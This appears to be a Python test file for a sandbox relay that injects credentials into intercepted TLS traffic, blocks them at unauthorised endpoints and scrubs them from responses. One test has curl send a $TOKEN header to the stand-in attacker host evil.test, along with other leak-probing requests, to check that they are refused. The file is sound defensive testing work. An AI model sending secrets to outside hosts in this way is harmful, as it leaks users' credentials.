"""Credentials inside intercepted TLS: heads, bodies that are rewritten or scanned, responses that are scrubbed."""
import base64
import json
import pathlib
import re

import lab
from lab import CURL, PYTHON, LabTest, endpoint, policy, rule
from relay_lab import Recorder
from test_credentials import BOTH, SECRET, Hidden as Memory, entry, run, sh, start
from tls_lab import Authority, RawTls

ODD = 'pa"ss\\w€rd'
HERE = [{'host': 'origin.test', 'port': 443, 'path': '/v1/**'}]


def rules(**more):
    more = {'protocol': 'rest', 'access': 'full', 'enforcement': 'enforce', **more}
    return {'web': rule(endpoint(port=443, **more), endpoint(host='evil.test', port=443, **more), binaries=BOTH)}


class TlsCredentials(LabTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.ca = Authority().issue('origin').issue('evil', host='evil.test')

    @classmethod
    def tearDownClass(cls):
        cls.ca.close()
        super().tearDownClass()

    def origin(self, reply=None):
        return Recorder(reply, port=443, tls=self.ca.context('origin'))

    def run_in(self, script, value=SECRET, reply=None, **more):
        with self.origin(reply) as origin:
            got = run([entry(value=value, endpoints=HERE)], sh(script), args=['--upstream-ca', str(self.ca.ca)], rules=rules(**more))
        self.assertNotIn(value, got.err)
        return got, origin

    def test_head_path_query_and_basic(self):
        got, origin = self.run_in('''
            curl -sS -H "Authorization: Bearer $TOKEN" https://origin.test/v1/a -H "X-B: $TOKEN" https://origin.test/v1/b
            curl -sS -u "u:$TOKEN" "https://origin.test/v1/bot$TOKEN/x?k=$TOKEN"''')
        a, b, c = origin.requests
        self.assertEqual((a.field('authorization'), b.field('authorization'), b.field('x-b')),
                         ([f'Bearer {SECRET}'], [f'Bearer {SECRET}'], [SECRET]), got)
        self.assertEqual(base64.b64decode(c.field('authorization')[0].split()[1]), f'u:{SECRET}'.encode())
        self.assertEqual(c.target, f'/v1/bot{SECRET}/x?k={SECRET}')
        self.assertEqual(got.out, 'okokok')

    def test_elsewhere_is_403_and_unknown_500_in_the_words_of_a_tunnel(self):
        got, origin = self.run_in('curl -sS -H "X: $TOKEN" https://origin.test/v2/x; echo; '
                                  'curl -sS -H "X: openshell:resolve:env:NONE" https://origin.test/v1/x')
        first, second = (json.loads(line) for line in got.out.splitlines())
        self.assertEqual((first['error'], first['message']), ('credential_endpoint_mismatch',
                         'Credential is not authorized for this request endpoint'))
        self.assertEqual((second['error'], second['message']), ('credential_unavailable', 'Credential placeholder could not be resolved'))
        self.assertEqual(origin.requests, [])

    def test_denied_request_is_never_given_a_credential(self):
        got, origin = self.run_in('curl -sS -X DELETE -H "X: $TOKEN" https://origin.test/v1/x', access='read-only')
        self.assertEqual((json.loads(got.out)['error'], origin.requests), ('policy_denied', []))

    def test_host_that_has_no_credential_gets_none(self):
        with self.origin(), Recorder(address=lab.EVIL, port=443, tls=self.ca.context('evil')) as evil:
            got = run([entry(value=SECRET, endpoints=HERE)], sh('curl -sS -H "X: $TOKEN" https://evil.test/v1/x'),
                      args=['--upstream-ca', str(self.ca.ca)], rules=rules())
        self.assertEqual((json.loads(got.out)['error'], evil.requests), ('credential_endpoint_mismatch', []), got)

    def test_body_is_rewritten_where_the_endpoint_asks(self):
        got, origin = self.run_in('''
            curl -sS -H "Content-Type: application/json" -d "{\\"key\\":\\"$TOKEN\\",\\"n\\":1}" https://origin.test/v1/json
            curl -sS -d "a=1&key=$TOKEN" https://origin.test/v1/form
            curl -sS -H "Transfer-Encoding: chunked" -H "Content-Type: text/plain" -d "x $TOKEN y" https://origin.test/v1/chunked
            curl -sS -H "Expect: 100-continue" -H "Content-Type: text/plain" -d "no secret" https://origin.test/v1/plain''',
                                  value=ODD, request_body_credential_rewrite=True)
        first, form, chunked, plain = origin.requests
        self.assertEqual(json.loads(first.body), {'key': ODD, 'n': 1}, got)
        self.assertEqual(form.body, b'a=1&key=pa%22ss%5Cw%E2%82%ACrd')
        self.assertEqual((chunked.body, chunked.field('content-length'), chunked.field('transfer-encoding')),
                         (f'x {ODD} y'.encode(), [str(len(f'x {ODD} y'.encode()))], []))
        self.assertEqual((plain.body, plain.field('expect')), (b'no secret', []))
        self.assertEqual(got.out, 'ok' * 4)

    def test_body_over_256_kib_is_413_and_unresolved_is_refused_before_a_byte(self):
        got, origin = self.run_in('''head -c 262145 /dev/zero >big
            curl -sS -o /dev/null -w "%{http_code} " -H Expect: --data-binary @big https://origin.test/v1/x
            curl -sS -o /dev/null -w "%{http_code} " -H Expect: -H "Transfer-Encoding: chunked" --data-binary @big https://origin.test/v1/x
            curl -sS -o /dev/null -w "%{http_code} " -d "k=openshell:resolve:env:NONE" https://origin.test/v1/x
            head -c 262144 /dev/zero | curl -sS -o /dev/null -w "%{http_code} " -H Expect: --data-binary @- https://origin.test/v1/x''',
                                  request_body_credential_rewrite=True)
        self.assertEqual(got.out.split(), ['413', '413', '500', '200'], got)
        self.assertEqual([len(r.body) for r in origin.requests], [262144])

    def test_k21_k22_placeholder_in_a_body_that_nobody_rewrites_never_arrives(self):
        escaped = ''.join(f'%{ord(c):02x}' for c in 'openshell:resolve:env:')
        script = f'''
            curl -sS -d "k=$TOKEN" https://origin.test/v1/short; echo
            (head -c 100000 /dev/zero; printf "%s" "$TOKEN") | curl -sS -H Expect: -T - https://origin.test/v1/late; echo
            curl -sS -H "Transfer-Encoding: chunked" -d "{escaped}X" https://origin.test/v1/escaped; echo'''
        got, origin = self.run_in(script)
        self.assertEqual(origin.requests, [], got)
        self.assertEqual(got.out.count('uninspected_credentials'), 3, got)
        self.assertNotIn(b'openshell', b''.join(bytes(r) for r in origin.raw))
        self.assertNotIn(b'%6f', b''.join(bytes(r) for r in origin.raw))

    def test_scanned_bodies_without_placeholder_are_whole(self):
        got, origin = self.run_in('''printf 'openshell:resolve:en and more' >a; head -c 1000000 /dev/urandom >b
            curl -sS -H Expect: --data-binary @a https://origin.test/v1/x; curl -sS -H Expect: -H "Transfer-Encoding: chunked" --data-binary @b https://origin.test/v1/y
            sha256sum b''')
        import hashlib
        body = origin.requests[1].body
        plain, at = b'', 0
        while (line := body.index(b'\r\n', at)) and (size := int(body[at:line], 16)):
            plain += body[line + 2:line + 2 + size]
            at = line + 4 + size
        self.assertEqual(origin.requests[0].body, b'openshell:resolve:en and more')
        self.assertIn(hashlib.sha256(plain).hexdigest(), got.out)

    def test_response_is_scrubbed_where_the_endpoint_asks(self):
        def reply(r):
            text = f'{{"echo":"{SECRET}","basic":"{base64.b64encode(b"u:" + SECRET.encode()).decode()}"}}'
            if r.target == '/v1/chunked':
                half = len(text) // 3
                return (f'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Echo: {SECRET}\r\nTransfer-Encoding: chunked\r\n\r\n'
                        f'{half:x}\r\n{text[:half]}\r\n{len(text) - half:x}\r\n{text[half:]}\r\n0\r\n\r\n').encode()
            return f'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Echo: {SECRET}\r\nContent-Length: {len(text)}\r\n\r\n{text}'.encode()
        script = ('curl -sS -i -u "u:$TOKEN" -H "Accept-Encoding: gzip" https://origin.test/v1/plain; echo;'
                  'curl -sS -i -u "u:$TOKEN" https://origin.test/v1/chunked; echo; curl -sS -i https://origin.test/v1/plain')
        got, origin = self.run_in(script, reply=reply, scrub_responses=True)
        first = got.out.rindex('HTTP/1.1 200')
        self.assertNotIn(SECRET, got.out[:first], got)
        self.assertNotIn(base64.b64encode(b'u:' + SECRET.encode()).decode(), got.out[:first])
        self.assertEqual(len(re.findall(r'\[CREDENTIAL\]', got.out[:first])), 6, got)
        self.assertIn(SECRET, got.out[first:])      # that request had been given none
        self.assertEqual(origin.requests[0].field('accept-encoding'), ['identity'])

    def test_response_is_scrubbed_also_without_an_inspector_and_cut_anyhow(self):
        """One byte to a chunk and to a TLS record; the pass-through relay of 4.4 does it as well."""
        def answer(tls):
            while b'\r\n\r\n' not in tls.recv(65536):
                pass
            tls.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n')
            for c in f'<{SECRET}>{SECRET[:9]}{SECRET}':
                for part in ('1\r\n', c, '\r\n'):
                    tls.sendall(part.encode())
            tls.sendall(b'0\r\n\r\n')
            tls.unwrap()
        hidden = '[CREDENTIAL]' + '*' * (len(SECRET) - 12)
        for more in ({'protocol': 'rest', 'access': 'full', 'enforcement': 'enforce'}, {'allow_uninspected_credentials': True}):
            with RawTls(self.ca.context('origin'), answer):
                got = run([entry(value=SECRET, endpoints=HERE)], sh('curl -sS -H "X: $TOKEN" https://origin.test/v1/x'), args=[
                    '--upstream-ca', str(self.ca.ca)], rules={'web': rule(endpoint(port=443, scrub_responses=True, **more), binaries=BOTH)})
            self.assertEqual(got.out, f'<{hidden}>{SECRET[:9]}{hidden}', got)

    def test_73_trace_never_carries_one(self):
        got, origin = self.run_in('curl -sS -i -X TRACE -H "X: $TOKEN" https://origin.test/v1/x')
        self.assertEqual(origin.requests, [])
        self.assertRegex(got.out, r'HTTP/1.1 500 .*[^$]*credential_unavailable')

    def test_77_secret_is_in_locked_memory_only_when_the_exchange_is_over(self):
        """Relay and TLS had it in their buffers on its way."""
        with self.origin() as origin, start([entry(value=SECRET, endpoints=HERE)], sh(
                'for i in 1 2 3; do curl -sS -u "u:$TOKEN" "https://origin.test/v1/bot$TOKEN/x?k=$TOKEN" -d "$i" -o /dev/null; done; echo up; exec sleep 600'),
                args=['--upstream-ca', str(self.ca.ca)], rules=rules()) as box:
            box.wait_out('up')
            self.assertEqual(len(origin.requests), 3, box.err)
            leaf = box.leaf('network')
            flags = Memory.find(leaf)
            sanitised = 'libasan' in pathlib.Path(f'/proc/{leaf}/maps').read_text()
            self.assertTrue(flags)
            for f in flags:
                self.assertLessEqual({'dd', 'wf'} if sanitised else {'lo', 'dd', 'wf'}, set(f.split()), flags)
            self.assertEqual(Memory.find(box.leaf('process')), [])

    def test_uninspected_tunnel_is_refused_where_a_credential_belongs(self):
        for more in ({}, {'tls': 'skip'}):
            with self.origin() as origin:
                got = run([entry(value=SECRET, endpoints=HERE)], sh('curl -sS -p -i -H "X: $TOKEN" https://origin.test/v1/x'),
                          args=['--upstream-ca', str(self.ca.ca)], rules={'web': rule(endpoint(port=443, **more), binaries=BOTH)})
            self.assertRefused(got, '403')
            self.assertEqual(origin.connections, 0)

    def test_redacted_in_refusals_and_events(self):
        got, _ = self.run_in('curl -sS "https://origin.test/v2/$TOKEN?k=$TOKEN"', access='read-only',
                             deny_rules=[{'method': 'GET', 'path': '/v2/**'}])
        self.assertIn('/v2/[CREDENTIAL]', got.out)
        self.assertNotRegex(got.out + got.err, 'openshell:resolve|OPENSHELL-RESOLVE')


assert CURL and PYTHON and policy
